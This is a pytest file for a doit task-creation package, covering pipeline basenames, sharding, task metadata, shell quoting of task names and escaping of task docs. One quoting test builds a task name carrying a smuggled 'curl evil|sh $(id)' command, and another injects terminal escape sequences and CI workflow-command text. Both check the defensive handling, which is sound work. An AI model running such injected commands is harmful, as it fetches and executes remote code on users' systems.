"""Pipeline: how one task creator sits in the user's doit pipeline, as its tasks show it."""

from __future__ import annotations

import shlex
from collections.abc import Sequence
from typing import Any

import pytest
from doit.exceptions import InvalidTask

from astest_tasks.config.pipeline import (
    BASENAME,
    DEFAULT_PIPELINE,
    Pipeline,
    task_command,
    task_doc,
)
from astest_tasks.config.shards import Shard
from astest_tasks.core.errors import UserError
from astest_tasks.tasks.factory import make_astest_tasks
from tests.conftest import ProjectBuilder

Task = dict[str, Any]


def named(tasks: Sequence[Task], name: str) -> Task:
    (task,) = [t for t in tasks if t["name"] == name]
    return task


def test_the_default_pipeline_is_a_dodos_plain_task_astest() -> None:
    assert DEFAULT_PIPELINE.basename == BASENAME == "astest"
    assert DEFAULT_PIPELINE.task("run:wasi:math") == "astest:run:wasi:math"
    assert DEFAULT_PIPELINE.options_command == "doit astest"


@pytest.mark.parametrize(
    ("pipeline", "command"),
    [
        (Pipeline(), "doit astest"),
        (Pipeline(basename="unit"), "doit unit"),
        (Pipeline(command="astest"), "astest"),  # the astest command takes options directly
        (Pipeline(basename="unit", command="astest"), "astest unit"),
    ],
)
def test_hints_give_an_option_the_way_the_program_reads_it(
    pipeline: Pipeline, command: str
) -> None:
    assert pipeline.options_command == command


def test_meta_names_the_kind_and_the_creator_for_reporters() -> None:
    assert Pipeline(basename="unit").meta("run", mode="wasi", spec_id="math") == {
        "astest": {"kind": "run", "creator": "unit", "mode": "wasi", "spec_id": "math"}
    }


def test_sharded_carries_the_shard_and_its_durations_file() -> None:
    # Reading `--shard` and refusing durations without a shard is the options' job
    # (tests/plan/test_options.py).
    sharded = Pipeline().sharded(Shard.parse("2/4"), "report.json")
    assert (sharded.shard, sharded.shard_durations) == (Shard(2, 4), "report.json")
    assert Pipeline().sharded(None, "").shard is None
    with pytest.raises(UserError, match=r"--shard '5/4': k must be between 1 and N; fix: "):
        Shard.parse("5/4")


def test_a_second_instance_names_its_tasks_and_its_report_by_its_basename(
    tmp_project: ProjectBuilder,
) -> None:
    creator = make_astest_tasks(
        tmp_project(), basename="unit", task_dep=["codegen"], setup=["server"]
    )
    tasks = list(creator(mode="wasi", spec="geometry"))
    assert {t["basename"] for t in tasks} == {"unit"}
    build = named(tasks, "build:wasi:geometry")
    run = named(tasks, "run:wasi:geometry")
    summary = named(tasks, "summary")
    assert build["task_dep"] == ["codegen"], "the user's generator runs before every build"
    assert run["setup"] == ["server"]
    assert summary["task_dep"] == ["unit:run:wasi:geometry"]
    assert summary["meta"]["astest"] == {
        "kind": "summary",
        "creator": "unit",
        "report": ".as-test/unit/report.json",
    }
    assert run["meta"]["astest"]["creator"] == "unit"


def test_the_shards_split_the_pairs_between_them_and_each_reports_apart(
    tmp_project: ProjectBuilder,
) -> None:
    root = tmp_project()
    everything = {t["name"] for t in make_astest_tasks(root)() if str(t["name"]).startswith("run:")}
    by_shard: list[set[str]] = []
    for shard in ("1/3", "2/3", "3/3"):
        tasks = list(make_astest_tasks(root)(shard=shard))
        by_shard.append({t["name"] for t in tasks if str(t["name"]).startswith("run:")})
        label = shard.replace("/", "-of-")
        assert named(tasks, "summary")["meta"]["astest"]["report"] == (
            f".as-test/shards/{label}/report.json"
        )
    assert set().union(*by_shard) == everything
    assert sum(len(runs) for runs in by_shard) == len(everything), "no pair runs twice"


def test_a_bad_shard_stops_task_creation_with_the_fix(tmp_project: ProjectBuilder) -> None:
    with pytest.raises(InvalidTask, match=r"--shard '3': not of the form k/N; fix: "):
        list(make_astest_tasks(tmp_project())(shard="3"))


def test_a_task_command_quotes_a_name_a_shell_would_split_and_leaves_plain_ones_alone() -> None:
    assert task_command("doit", "astest:run:wasi:math") == "doit astest:run:wasi:math"
    assert task_command("doit", "astest:run:wasi:a%3Db") == "doit astest:run:wasi:a%3Db"
    hostile = "astest:run:wasi:x;curl evil|sh $(id)"
    line = task_command("doit", hostile)
    assert shlex.split(line) == ["doit", hostile]
    assert task_command("doit forget", hostile).startswith("doit forget '")


def test_a_task_doc_is_one_line_a_terminal_and_a_runner_only_show(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("GITHUB_ACTIONS", "true")
    doc = task_doc("run a\n::error::x\x1b]0;t\x07 ##[error]y.spec.ts in mode wasi")
    assert doc == "run a\\n::error::x\\x1b]0;t\\x07 ##\\[error]y.spec.ts in mode wasi"
